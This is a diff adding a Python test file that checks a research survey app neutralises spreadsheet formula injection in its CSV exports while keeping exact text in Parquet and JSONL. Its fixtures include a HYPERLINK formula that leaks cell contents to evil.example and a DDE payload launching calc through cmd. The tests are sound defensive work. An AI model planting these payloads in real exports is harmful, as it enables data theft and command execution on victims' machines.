@@ -1,0 +1,119 @@
+"""The scoring app closed to attack: spreadsheet-safe exports, control characters,
+strict numbers and argon2id passwords (on SQLite and PostgreSQL through ``db_url``)."""
+
+from __future__ import annotations
+
+import csv
+import html
+import io
+
+import pandas as pd
+from app_bots import Practitioner, Researcher, default_answer
+from typer.testing import CliRunner
+
+from dsk.app import read_survey
+from dsk.app._survey import BOM, restore_cell, spreadsheet_cell
+from dsk.cli import app as cli
+from dsk.io import read_table
+
+LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def _attack(position: int) -> dict[str, object]:
+    return default_answer(position) | {"rationale": LINK if position == 0 else SUM,
+                                       "salient_other": SUM if position == 0 else "-2+3"}
+
+
+def _rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))
+
+
+def test_spreadsheet_cells_are_neutralised_and_restored() -> None:
+    for text, safe in [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@A", "'@A"),
+                       ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=1", "''=1"), ("x=1", "x=1"),
+                       ("'x", "'x"), ("", ""), ("1-2", "1-2")]:
+        assert spreadsheet_cell(text) == safe
+        assert restore_cell(safe) == text
+
+
+def test_web_and_cli_exports_neutralise_formulas(make_client, researcher: Researcher,
+                                                 db_url: str, tmp_path) -> None:
+    study = researcher.create_study(deck_size=2, n_participants=1, rounds=1)
+    bot = Practitioner(make_client(), researcher.links(study)[0])
+    bot.consent()
+    bot.play_round(_attack)
+    r = researcher.client.get(f"/studies/{study}/judgements.csv")
+    assert r.status_code == 200 and not r.text.startswith(BOM)
+    rows = _rows(r.text)
+    assert [row["rationale"] for row in rows] == ["'" + LINK, "'" + SUM]
+    assert [row["salient_other"] for row in rows] == ["'" + SUM, "'-2+3"]
+    assert [row["need_level"] for row in rows] == ["1", "2"]  # numbers stay numbers
+    assert [row["salient_factors"] for row in rows] == [
+        '["parental_mental_health","domestic_abuse"]'] * 2
+    excel = researcher.client.get(f"/studies/{study}/judgements.csv?excel=1")
+    assert excel.content.startswith(BOM.encode()) and _rows(excel.text) == rows
+    bad = researcher.client.get(f"/studies/{study}/judgements.csv?excel=yes")
+    assert bad.status_code == 422 and "excel: expected 1 or 0" in html.unescape(bad.text)
+    # the Parquet export is the analysis file: the true text, unchanged
+    (tmp_path / "j.parquet").write_bytes(
+        researcher.client.get(f"/studies/{study}/judgements.parquet").content)
+    exact = read_table(tmp_path / "j.parquet", "judgements")
+    assert exact["rationale"].tolist() == [LINK, SUM]
+    assert exact["salient_other"].tolist() == [SUM, "-2+3"]
+    # the CSV read back for analysis: the same numbers, the guard left on the text
+    (tmp_path / "web.csv").write_bytes(r.content)
+    sheet = read_table(tmp_path / "web.csv", "judgements")
+    assert sheet["need_level"].tolist() == exact["need_level"].tolist()
+    assert sheet["rationale"].tolist() == ["'" + LINK, "'" + SUM]
+
+    runner = CliRunner()
+    out = tmp_path / "cli.csv"
+    done = runner.invoke(cli, ["study", "export", str(study), "-o", str(out), "--db", db_url])
+    assert done.exit_code == 0, done.output
+    assert out.read_text(encoding="utf-8") == r.text
+    done = runner.invoke(cli, ["study", "export", str(study), "-o", str(out), "--excel",
+                               "--db", db_url])
+    assert done.exit_code == 0 and out.read_bytes() == excel.content
+    done = runner.invoke(cli, ["study", "export", str(study), "-o", str(tmp_path / "j.jsonl"),
+                               "--excel", "--db", db_url])
+    assert done.exit_code == 1 and "--excel applies to a .csv output only" in done.output
+    done = runner.invoke(cli, ["study", "export", str(study), "-o", str(tmp_path / "j.jsonl"),
+                               "--db", db_url])
+    assert read_table(tmp_path / "j.jsonl", "judgements")["rationale"].tolist() == [LINK, SUM]
+
+
+def test_survey_csv_is_neutralised_and_reads_back(make_client, researcher: Researcher,
+                                                  db_url: str, tmp_path) -> None:
+    vignettes = tmp_path / "v.csv"
+    from dsk.catalogue import load_catalogue
+    from dsk.design import generate
+    from dsk.io import write_table
+
+    frame = generate("random", 3, 1, load_catalogue(), set_id="ours")
+    frame["vignette_id"] = ["=cmd|x", "-v2", "@v3"]
+    frame["narrative"] = ["- Mother says =1+1", "plain", "@home"]
+    write_table(frame, vignettes)
+    study = researcher.create_study(deck_size=3, n_participants=1, rounds=1,
+                                    vignettes_file=vignettes)
+    r = researcher.client.get(f"/studies/{study}/survey.csv?excel=1")
+    assert r.status_code == 200 and r.content.startswith(BOM.encode())
+    cells = [cell for row in csv.reader(io.StringIO(r.text.removeprefix(BOM))) for cell in row]
+    assert "'=cmd|x" in cells and "'- Mother says =1+1" in cells and "=cmd|x" not in cells
+    assert not any(c[:1] in ("=", "+", "-", "@") for c in cells)
+    path = tmp_path / "survey.csv"
+    done = CliRunner().invoke(cli, ["study", "survey", str(study), "-o", str(path), "--excel",
+                                    "--db", db_url])
+    assert done.exit_code == 0, done.output
+    assert path.read_bytes() == r.content
+    design = read_survey(path)  # the byte-order mark and the guard are undone
+    assert list(design.columns)[0] == "study_id"
+    assert set(design["vignette_id"]) == {"=cmd|x", "-v2", "@v3"}
+    assert "- Mother says =1+1" in set(design["text"])
+    q = design[(design["field"] == "need_level") & (design["vignette_id"] == "-v2")]
+    pd.DataFrame([{"respondent_id": "r1", q["question_id"].iloc[0]: "3"}]).to_csv(
+        tmp_path / "resp.csv", index=False)
+    done = CliRunner().invoke(cli, ["study", "import", str(tmp_path / "resp.csv"), "--design",
+                                    str(path), "-o", str(tmp_path / "imp.parquet")])
+    assert done.exit_code == 0, done.output
+    assert read_table(tmp_path / "imp.parquet", "judgements")["vignette_id"].tolist() == ["-v2"]
